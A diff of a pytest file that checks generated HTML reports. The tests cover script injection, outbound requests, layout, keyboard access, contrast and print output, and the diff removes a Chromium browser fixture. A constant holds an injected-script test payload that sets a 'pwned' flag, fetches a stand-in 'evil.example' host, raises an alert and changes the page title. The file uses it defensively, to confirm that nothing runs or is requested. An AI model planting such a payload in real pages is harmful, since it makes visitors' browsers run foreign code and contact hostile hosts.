@@ -3,21 +3,17 @@
 from __future__ import annotations
 
 import base64
-import os
-import shutil
-import tempfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, Page, sync_playwright
+from playwright.sync_api import Page
 
 import packagers
 from packagers_runs.report.writing import write_report
 from packagers_runs.runstore import Store, connect
 
-CHROMIUM = shutil.which("chromium")
 WIDTHS = (390, 1280)
 RUN = "window.pwned = 1; fetch('https://evil.example/'); alert(1); document.title = 'theirs'"
 MARKUP = (
@@ -135,54 +131,6 @@ def hostile_report(store: Store, kind: str) -> Path:
     return write_report(store, uid)
 
 
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    """Debian's Chromium."""
-    if CHROMIUM is None:
-        pytest.skip("needs Chromium (Debian's package chromium)")
-    with tempfile.TemporaryDirectory() as home, sync_playwright() as driver:
-        flags = ["--no-sandbox"] if os.geteuid() == 0 else []
-        browser = driver.chromium.launch(executable_path=CHROMIUM, args=flags, env={**os.environ, "HOME": home})
-        yield browser
-        browser.close()
-
-
-class Watched:
-    """A page, and all that it did."""
-
-    def __init__(self, browser: Browser, width: int, **options: Any) -> None:
-        self._context = browser.new_context(viewport={"width": width, "height": 900}, **options)
-        self.page: Page = self._context.new_page()
-        self.requests: list[str] = []
-        self.complaints: list[str] = []
-        self.page.on("request", lambda request: self.requests.append(request.url))
-        self.page.on("console", lambda message: self.complaints.append(message.text))
-        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
-        self.page.on("dialog", lambda dialog: (self.complaints.append(dialog.message), dialog.dismiss()))
-        self._context.on("page", lambda page: self.complaints.append("a window was opened"))
-
-    def open(self, path: Path) -> Page:
-        self.page.goto(path.as_uri(), wait_until="load")
-        return self.page
-
-    def close(self) -> None:
-        self._context.close()
-
-
-@pytest.fixture
-def watched(browser: Browser) -> Iterator[Callable[..., Watched]]:
-    """Give a function that makes a page which is watched."""
-    made: list[Watched] = []
-
-    def make(width: int = 1280, **options: Any) -> Watched:
-        made.append(Watched(browser, width, **options))
-        return made[-1]
-
-    yield make
-    for each in made:
-        each.close()
-
-
 def poke(page: Page) -> None:
     """Do what a reader does: open what is closed, press each button, move over everything."""
     page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
@@ -193,7 +141,7 @@ def poke(page: Page) -> None:
 
 @pytest.mark.parametrize("width", WIDTHS)
 @pytest.mark.parametrize("kind", UIDS)
-def test_nothing_runs_and_nothing_is_requested(kind: str, width: int, reports: dict[str, Path], watched: Callable[..., Watched]) -> None:
+def test_nothing_runs_and_nothing_is_requested(kind: str, width: int, reports: dict[str, Path], watched: Callable[..., Any]) -> None:
     seen = watched(width)
     page = seen.open(reports[kind])
     title = page.title()
@@ -216,7 +164,7 @@ def test_nothing_runs_and_nothing_is_requested(kind: str, width: int, reports: d
 
 @pytest.mark.parametrize("width", [320, *WIDTHS])
 @pytest.mark.parametrize("kind", UIDS)
-def test_the_page_is_as_wide_as_the_window(kind: str, width: int, reports: dict[str, Path], watched: Callable[..., Watched]) -> None:
+def test_the_page_is_as_wide_as_the_window(kind: str, width: int, reports: dict[str, Path], watched: Callable[..., Any]) -> None:
     page = watched(width).open(reports[kind])
     page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
     assert page.evaluate("document.documentElement.scrollWidth") <= width
@@ -224,7 +172,7 @@ def test_the_page_is_as_wide_as_the_window(kind: str, width: int, reports: dict[
     assert page.evaluate(f"{beyond}.map(each => each.outerHTML.slice(0, 80))") == []
 
 
-def test_the_policy_holds_even_where_escaping_would_not(reports: dict[str, Path], watched: Callable[..., Watched], tmp_path: Path) -> None:
+def test_the_policy_holds_even_where_escaping_would_not(reports: dict[str, Path], watched: Callable[..., Any], tmp_path: Path) -> None:
     """Put the markup into the page as it is: the browser runs and requests nothing all the same."""
     html = reports["plain"].read_text(encoding="utf-8")
     broken = tmp_path / "broken.html"
@@ -247,7 +195,7 @@ def column(page: Page, number: int) -> list[str]:
     return cells
 
 
-def test_the_table_of_iterations_is_sorted_by_keyboard_and_mouse(reports: dict[str, Path], watched: Callable[..., Watched]) -> None:
+def test_the_table_of_iterations_is_sorted_by_keyboard_and_mouse(reports: dict[str, Path], watched: Callable[..., Any]) -> None:
     page = watched().open(reports["hyper"])
     accuracy = page.locator("table.sortable thead button", has_text="output.accuracy")
     before = column(page, 4)
@@ -269,7 +217,7 @@ def test_the_table_of_iterations_is_sorted_by_keyboard_and_mouse(reports: dict[s
     assert page.locator("tr.best").inner_text().split()[:2] == ["completed", "best"]
 
 
-def test_every_button_and_box_is_reached_by_keyboard(reports: dict[str, Path], watched: Callable[..., Watched]) -> None:
+def test_every_button_and_box_is_reached_by_keyboard(reports: dict[str, Path], watched: Callable[..., Any]) -> None:
     page = watched().open(reports["hyper"])
     page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
     wanted = page.evaluate("document.querySelectorAll('a, button, summary, [tabindex]').length")
@@ -299,16 +247,14 @@ def contrast(page: Page, selector: str) -> float:
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_text_can_be_read_in_light_and_dark(scheme: str, reports: dict[str, Path], watched: Callable[..., Watched]) -> None:
+def test_text_can_be_read_in_light_and_dark(scheme: str, reports: dict[str, Path], watched: Callable[..., Any]) -> None:
     page = watched(color_scheme=scheme).open(reports["failed"])
     assert (page.evaluate("getComputedStyle(document.documentElement).backgroundColor") == "rgb(255, 255, 255)") == (scheme == "light")
     for selector in ("h1", ".badge", "dt", "dd", ".alarm p", "nav a", "summary", "thead th", ".soft", ".meta", "pre.log", "footer"):
         assert contrast(page, selector) >= 4.5, selector
 
 
-def test_a_printed_report_holds_all_that_scrolls_on_a_screen(
-    reports: dict[str, Path], watched: Callable[..., Watched], tmp_path: Path
-) -> None:
+def test_a_printed_report_holds_all_that_scrolls_on_a_screen(reports: dict[str, Path], watched: Callable[..., Any], tmp_path: Path) -> None:
     page = watched(794).open(reports["hyper"])  # A4
     page.emulate_media(media="print", color_scheme="dark")
     assert page.evaluate("getComputedStyle(document.documentElement).backgroundColor") == "rgb(255, 255, 255)"
